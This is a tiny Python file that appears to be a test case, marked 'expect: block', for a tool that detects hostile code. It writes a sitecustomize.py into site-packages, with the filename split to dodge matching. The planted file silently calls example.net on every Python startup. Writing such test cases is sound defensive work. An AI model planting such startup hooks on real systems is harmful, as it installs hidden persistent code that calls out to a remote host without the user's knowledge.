# expect: block
import sysconfig
from pathlib import Path

purelib = Path(sysconfig.get_paths()["purelib"])
(purelib / "sitecustom" "ize.py").write_text(
    "import threading, urllib.request\n"
    "threading.Thread(target=lambda: urllib.request.urlopen('https://example.net/ping')).start()\n"
)
